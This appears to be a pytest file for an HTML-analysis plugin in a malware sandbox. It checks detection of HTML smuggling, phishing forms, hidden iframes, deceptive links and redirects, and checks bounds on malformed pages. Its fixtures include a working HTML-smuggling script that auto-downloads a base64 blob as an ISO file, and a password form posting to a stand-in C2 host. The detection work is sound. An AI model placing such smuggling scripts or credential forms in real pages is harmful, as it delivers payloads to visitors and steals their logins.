"""What a page would do to its visitor."""

import base64
import contextlib
from pathlib import Path
from typing import Any

import pytest

from malbox.sdk import PluginFailure, PluginSkipped
from malbox.sdk.links import deceives
from malbox.sdk.testing import Emitted, run_plugin
from services.plugins.builtin.html import page, plugin
from tests.unit.plugins.conftest import MakeSample
from tests.unit.plugins.mutations import mutations

BLOB = b"MZ" + bytes(range(256)) * 4
SMUGGLED = (
    "<html><body><script>var d = '" + base64.b64encode(BLOB).decode() + "';"
    "var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);"
    "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'a.iso'; a.click();"
    "</script></body></html>"
).encode()
LOGIN = '<form action="%s" method="post"><input name="u"><input type="password" name="p"></form>'


def html(inside: str) -> bytes:
    return f"<!doctype html><html><head><title>Hello</title></head><body>{inside}</body></html>".encode()


def read(sample: Path, scratch: Path) -> Emitted:
    return run_plugin(plugin.run, sample, scratch=scratch)


def traits(said: Any) -> set[str]:
    return {one["name"] for one in said["traits"]}


def test_a_file_that_the_page_builds_comes_out(make_sample: MakeSample, tmp_path: Path) -> None:
    """Smuggling is seen, and what is smuggled is a child."""
    emitted = read(make_sample(SMUGGLED), tmp_path)
    said = emitted.json("html")
    assert traits(said) == {"html_smuggling"}
    assert emitted.content[said["children"][0]["name"]] == BLOB


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        (html(LOGIN % "https://c2.example/p.php"), "html_asks_password"),
        (html('<iframe src="http://c2.example/" width="1" height="1"></iframe>'), "html_hidden_frame"),
        (html('<iframe src="http://c2.example/" style="display: none"></iframe>'), "html_hidden_frame"),
        (html('<a href="https://c2.example/">www.bank.example</a>'), "link_deceives"),
    ],
)
def test_what_a_page_would_do_is_a_trait(content: bytes, trait: str, make_sample: MakeSample, tmp_path: Path) -> None:
    """Each in a page that does nothing else."""
    assert traits(read(make_sample(content), tmp_path).json("html")) == {trait}


@pytest.mark.parametrize(
    "content",
    [
        html("<p>hello <a href='https://a.example/x'>a.example</a></p><script>console.log(1)</script>"),
        html(LOGIN % "/login"),
        html('<iframe src="https://a.example/video" width="640" height="360"></iframe>'),
        html("<script>var b = new Blob(['x']); show(URL.createObjectURL(b));</script>"),
        html('<img src="data:image/png;base64,AAAA">'),
    ],
)
def test_an_ordinary_page_has_no_trait(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control of the traits: links, forms of one's own, videos, blobs that stay in the page, pictures."""
    said = read(make_sample(content), tmp_path).json("html")
    assert (said["traits"], said["problems"], said["children"]) == ([], [], [])


def test_elements_and_urls_are_listed(make_sample: MakeSample, tmp_path: Path) -> None:
    """Scripts, those in attributes too, redirects and the file in a data URI."""
    emitted = read(
        make_sample(
            html(
                '<meta http-equiv="refresh" content="0; url=http://c2.example/r"><script src="//cdn.example/x.js">'
                '</script><img onerror="alert(1)"><a href="data:text/html;base64,aGVsbG8=">x</a>'
                '<a href="javascript:alert(2)">y</a>'
            )
        ),
        tmp_path,
    )
    said = emitted.json("html")
    assert said["title"] == "Hello"
    assert [one["text"] for one in said["scripts"]] == ["", "alert(1)", "javascript:alert(2)"]
    assert said["redirects"] == ["http://c2.example/r"]
    assert {"c2.example", "cdn.example"} <= {one["value"] for one in said["indicators"]}
    assert emitted.content["children/0001"] == b"hello"


@pytest.mark.parametrize(
    ("shown", "target", "is_false"),
    [
        ("www.bank.example", "https://c2.example/", True),
        ("https://bank.example/login", "http://bank.example.c2.example/", True),
        ("bank.example", "https://www.bank.example/", False),
        ("login.bank.example", "https://bank.example/", False),
        ("click here", "https://c2.example/", False),
        ("bank.example", "mailto:a@c2.example", False),
    ],
)
def test_a_link_deceives_when_it_shows_another_host(shown: str, target: str, is_false: bool) -> None:  # noqa: FBT001
    """A host below or above the one that is shown is no deceit."""
    assert deceives(shown, target) == is_false


@pytest.mark.promise("P38")
@pytest.mark.parametrize(
    "content",
    [
        b"<html>" + b"<div>" * 100_000,
        b"<html>" + b"<a href=x>" * 100_000,
        b"<html><script>" + b"A" * 2_000_000 + b"</script>",
        b"<html><p " + b"a=b " * 100_000 + b">",
        b"<html><!--" + b"-" * 1_000_000,
        b"<html>" + b"&" * 300_000,
    ],
    ids=["deep", "links", "letters", "attributes", "a comment", "entities"],
)
def test_a_page_without_end_is_cut(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Depth, numbers and lengths end at a bound."""
    said = read(make_sample(content), tmp_path).json("html")
    assert len(said["links"]) <= page.LISTED_MAX
    assert len(str(said)) < 400_000


def test_other_files_are_skipped(make_sample: MakeSample, tmp_path: Path) -> None:
    """Not an error: there is nothing to do."""
    for content in (b"hello", b"MZ <html>", b"From: a\r\nTo: b\r\n\r\n<html>"):
        with pytest.raises(PluginSkipped):
            read(make_sample(content), tmp_path)


@pytest.mark.parametrize("content", [SMUGGLED, html(LOGIN % "https://c2.example/")])
def test_a_damaged_page_is_read_as_far_as_it_goes(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Cut and flipped in many places."""
    for damaged in mutations(content, 200, "html"):
        with contextlib.suppress(PluginFailure, PluginSkipped):
            assert len(read(make_sample(damaged), tmp_path).json("html")["scripts"]) <= page.LISTED_MAX
